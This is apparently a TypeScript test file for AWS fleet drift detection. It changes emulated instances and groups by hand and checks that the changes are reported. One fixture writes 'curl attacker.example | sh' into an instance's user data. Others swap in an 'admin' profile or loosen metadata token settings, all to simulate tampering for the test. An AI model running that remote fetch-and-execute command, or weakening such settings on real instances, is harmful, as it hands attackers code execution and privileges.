import {
  AttachLoadBalancerTargetGroupsCommand,
  ResumeProcessesCommand,
  StartInstanceRefreshCommand,
  SuspendProcessesCommand,
  UpdateAutoScalingGroupCommand,
} from '@aws-sdk/client-auto-scaling';
import {
  AttachVolumeCommand,
  CreateKeyPairCommand,
  CreateLaunchTemplateVersionCommand,
  CreateNetworkInterfaceCommand,
  CreateTagsCommand,
  CreateVolumeCommand,
  DeleteKeyPairCommand,
  DeleteLaunchTemplateCommand,
  DeleteTagsCommand,
  DescribeIamInstanceProfileAssociationsCommand,
  DescribeVolumesCommand,
  type EC2Client,
  ModifyInstanceAttributeCommand,
  ModifyInstanceMetadataOptionsCommand,
  ModifyVolumeCommand,
  ReplaceIamInstanceProfileAssociationCommand,
  type RequestLaunchTemplateData,
  RunInstancesCommand,
} from '@aws-sdk/client-ec2';
import { CreateTargetGroupCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import { DeleteInstanceProfileCommand, RemoveRoleFromInstanceProfileCommand } from '@aws-sdk/client-iam';
import { describe, expect, test } from 'vitest';
import { autoScalingClient, ec2Client, iamClient, loadBalancingClient } from '../../src/aws/clients.ts';
import { systemClock } from '../../src/aws/clock.ts';
import { Deadline } from '../../src/aws/deadline.ts';
import { awsFleet } from '../../src/aws/fleet.ts';
import { localCloud } from './cloud.ts';
import { type FleetSetting, fleetSuite } from './fleet.suite.ts';
import { type Scene, setScene } from './fleet-scene.ts';

// What is Terminating is to be seen so, also on a machine that is busy.
localCloud({ terminateSeconds: 3 });
const USER_DATA = Buffer.from('#!/bin/sh\necho hello\n').toString('base64');

async function clients() {
  const ec2 = ec2Client('instances', new Deadline());
  const autoScaling = autoScalingClient('instances', new Deadline());
  const iam = iamClient('instances', new Deadline());
  const loadBalancing = loadBalancingClient('instances', new Deadline());
  const scene = await setScene(ec2, autoScaling, iam);
  return { ec2, autoScaling, iam, loadBalancing, fleet: awsFleet({ ec2, autoScaling, iam, loadBalancing }), scene };
}

async function make(): Promise<FleetSetting> {
  const { ec2, autoScaling, iam, loadBalancing, fleet, scene } = await clients();
  const profile = await scene.newProfile();
  await ec2.send(new CreateKeyPairCommand({ KeyName: profile }));
  const modify = (InstanceId: string, change: object) =>
    ec2.send(new ModifyInstanceAttributeCommand({ InstanceId, ...change }));
  return {
    fleet,
    newGroup: async () => {
      const { id } = await scene.newSecurityGroup();
      return scene.newGroup({
        UserData: USER_DATA,
        SecurityGroupIds: [id],
        IamInstanceProfile: { Name: profile },
        KeyName: profile,
        MetadataOptions: { HttpTokens: 'required' },
        TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Env', Value: 'prod' }] }],
      });
    },
    newInstance: async () => {
      const run = { ImageId: scene.imageId, MinCount: 1, MaxCount: 1, SubnetId: scene.subnetId };
      const { Instances = [] } = await ec2.send(new RunInstancesCommand(run));
      return Instances[0]?.InstanceId ?? '';
    },
    newInterface: async () => {
      const { NetworkInterface: face } = await ec2.send(
        new CreateNetworkInterfaceCommand({ SubnetId: scene.subnetId }),
      );
      return face?.NetworkInterfaceId ?? '';
    },
    changeUserData: async (id) => {
      await modify(id, { UserData: { Value: Buffer.from('curl attacker.example | sh') } });
    },
    changeGroups: async (id) => {
      await modify(id, { Groups: [(await scene.newSecurityGroup()).id] });
    },
    changeProfile: async (id) => {
      const Filters = [{ Name: 'instance-id', Values: [id] }];
      const found = await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({ Filters }));
      const AssociationId = found.IamInstanceProfileAssociations?.[0]?.AssociationId;
      const IamInstanceProfile = { Name: 'admin' };
      await ec2.send(new ReplaceIamInstanceProfileAssociationCommand({ AssociationId, IamInstanceProfile }));
    },
    changeMetadataOptions: async (InstanceId) => {
      await ec2.send(new ModifyInstanceMetadataOptionsCommand({ InstanceId, HttpTokens: 'optional' }));
    },
    changeTags: async (id) => {
      await ec2.send(new DeleteTagsCommand({ Resources: [id], Tags: [{ Key: 'Env' }] }));
    },
    suspendLaunch: async (AutoScalingGroupName) => {
      await autoScaling.send(new SuspendProcessesCommand({ AutoScalingGroupName, ScalingProcesses: ['Launch'] }));
    },
    resumeLaunch: async (AutoScalingGroupName) => {
      await autoScaling.send(new ResumeProcessesCommand({ AutoScalingGroupName, ScalingProcesses: ['Launch'] }));
    },
    launchFirst: async (AutoScalingGroupName) => {
      const InstanceMaintenancePolicy = { MinHealthyPercentage: 100, MaxHealthyPercentage: 200 };
      await autoScaling.send(new UpdateAutoScalingGroupCommand({ AutoScalingGroupName, InstanceMaintenancePolicy }));
    },
    suspendReplacing: async (AutoScalingGroupName) => {
      const ScalingProcesses = ['ReplaceUnhealthy'];
      await autoScaling.send(new SuspendProcessesCommand({ AutoScalingGroupName, ScalingProcesses }));
    },
    warmUp: async (AutoScalingGroupName, DefaultInstanceWarmup) => {
      const wish = { Name: AutoScalingGroupName, Protocol: 'HTTP', Port: 80, VpcId: scene.vpcId } as const;
      const { TargetGroups = [] } = await loadBalancing.send(new CreateTargetGroupCommand(wish));
      const TargetGroupARNs = [TargetGroups[0]?.TargetGroupArn ?? ''];
      await autoScaling.send(new AttachLoadBalancerTargetGroupsCommand({ AutoScalingGroupName, TargetGroupARNs }));
      await autoScaling.send(new UpdateAutoScalingGroupCommand({ AutoScalingGroupName, DefaultInstanceWarmup }));
    },
    breakLaunch: async (LaunchTemplateName) => {
      await ec2.send(new DeleteLaunchTemplateCommand({ LaunchTemplateName }));
    },
    breakProfile: async () => {
      await iam.send(new RemoveRoleFromInstanceProfileCommand({ InstanceProfileName: profile, RoleName: profile }));
      await iam.send(new DeleteInstanceProfileCommand({ InstanceProfileName: profile }));
    },
    emptyProfile: async () => {
      await iam.send(new RemoveRoleFromInstanceProfileCommand({ InstanceProfileName: profile, RoleName: profile }));
    },
    deleteKey: async () => {
      await ec2.send(new DeleteKeyPairCommand({ KeyName: profile }));
    },
    protectFromTermination: async (id) => {
      await modify(id, { DisableApiTermination: { Value: true } });
    },
    startRefresh: async (AutoScalingGroupName) => {
      await autoScaling.send(new StartInstanceRefreshCommand({ AutoScalingGroupName }));
    },
    pass: (seconds) => systemClock.sleep(seconds * 1000),
  };
}

describe('fleet', () => fleetSuite(make));

describe('the template as baseline', () => {
  async function driftOf(data: (scene: Scene, group: { id: string; name: string }) => RequestLaunchTemplateData) {
    const { fleet, scene, ec2 } = await clients();
    const { instanceIds } = await scene.newGroup(data(scene, await scene.newSecurityGroup()));
    const estate = await fleet.read({ type: 'instance', id: instanceIds[0] ?? '' });
    if (estate.kind === 'missing') throw new Error('the instance is missing');
    return { fleet, ec2, estate, drift: await fleet.drift(estate) };
  }

  test.each<[string, (scene: Scene, group: { id: string; name: string }) => RequestLaunchTemplateData]>([
    ['by interface', (_, { id }) => ({ NetworkInterfaces: [{ DeviceIndex: 0, Groups: [id] }] })],
    ['by id, without user data or profile', (_, { id }) => ({ SecurityGroupIds: [id] })],
    [
      'with its profile by ARN',
      (_, { id }) => ({
        SecurityGroupIds: [id],
        IamInstanceProfile: { Arn: 'arn:aws:iam::123456789012:instance-profile/path/web' },
      }),
    ],
  ])('that names its security groups %s is matched', async (_title, data) => {
    const { drift } = await driftOf(data);
    expect(drift).toMatchObject({ kind: 'compared', differences: [] });
  });

  const everything = (_: Scene, { id }: { id: string }): RequestLaunchTemplateData => ({
    SecurityGroupIds: [id],
    KeyName: 'ops',
    Monitoring: { Enabled: true },
    MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1, HttpEndpoint: 'enabled' },
    BlockDeviceMappings: [
      { DeviceName: '/dev/sda1', Ebs: { VolumeSize: 12, VolumeType: 'gp3', DeleteOnTermination: true } },
    ],
    TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Env', Value: 'prod' }] }],
  });

  test('that says all is matched', async () => {
    expect((await driftOf(everything)).drift).toMatchObject({ kind: 'compared', differences: [], untold: [] });
  });

  type ByHand = (ec2: EC2Client, InstanceId: string) => Promise<unknown>;
  const volumeOf = async (ec2: EC2Client, id: string) => {
    const Filters = [{ Name: 'attachment.instance-id', Values: [id] }];
    return (await ec2.send(new DescribeVolumesCommand({ Filters }))).Volumes?.[0];
  };
  test.each<[string, ByHand]>([
    [
      'metadata-options/http-tokens',
      (ec2, InstanceId) => ec2.send(new ModifyInstanceMetadataOptionsCommand({ InstanceId, HttpTokens: 'optional' })),
    ],
    [
      'source-dest-check',
      (ec2, InstanceId) =>
        ec2.send(new ModifyInstanceAttributeCommand({ InstanceId, SourceDestCheck: { Value: false } })),
    ],
    [
      'tags/Env',
      (ec2, id) => ec2.send(new CreateTagsCommand({ Resources: [id], Tags: [{ Key: 'Env', Value: 'dev' }] })),
    ],
    [
      'block-devices/sda1/size',
      async (ec2, id) => ec2.send(new ModifyVolumeCommand({ VolumeId: (await volumeOf(ec2, id))?.VolumeId, Size: 90 })),
    ],
    [
      'block-devices/sdf',
      async (ec2, InstanceId) => {
        const AvailabilityZone = (await volumeOf(ec2, InstanceId))?.AvailabilityZone;
        const { VolumeId } = await ec2.send(new CreateVolumeCommand({ AvailabilityZone, Size: 1 }));
        await ec2.send(new AttachVolumeCommand({ InstanceId, VolumeId, Device: '/dev/sdf' }));
      },
    ],
  ])('of which %s was changed by hand differs only there', async (path, change) => {
    const { fleet, ec2, estate } = await driftOf(everything);
    await change(ec2, estate.instance.id);
    const again = await fleet.read({ type: 'instance', id: estate.instance.id });
    if (again.kind !== 'instance') throw new Error('the instance is missing');
    expect(await fleet.drift(again)).toMatchObject({ kind: 'compared', differences: [{ path }], untold: [] });
  });

  test('a newer version of the template is not drift', async () => {
    const { fleet, ec2, estate } = await driftOf((_, { id }) => ({ SecurityGroupIds: [id], UserData: USER_DATA }));
    const LaunchTemplateId = estate.group?.members[0]?.launchTemplate?.id;
    const LaunchTemplateData = { UserData: Buffer.from('another').toString('base64') };
    await ec2.send(new CreateLaunchTemplateVersionCommand({ LaunchTemplateId, LaunchTemplateData }));
    expect(await fleet.drift(estate)).toMatchObject({ kind: 'compared', differences: [] });
  });

  test('with the template deleted, drift is unknown', async () => {
    const { fleet, ec2, estate } = await driftOf((_, { id }) => ({ SecurityGroupIds: [id] }));
    const LaunchTemplateId = estate.group?.members[0]?.launchTemplate?.id;
    await ec2.send(new DeleteLaunchTemplateCommand({ LaunchTemplateId }));
    expect((await fleet.drift(estate)).kind).toBe('unknown');
  });
});
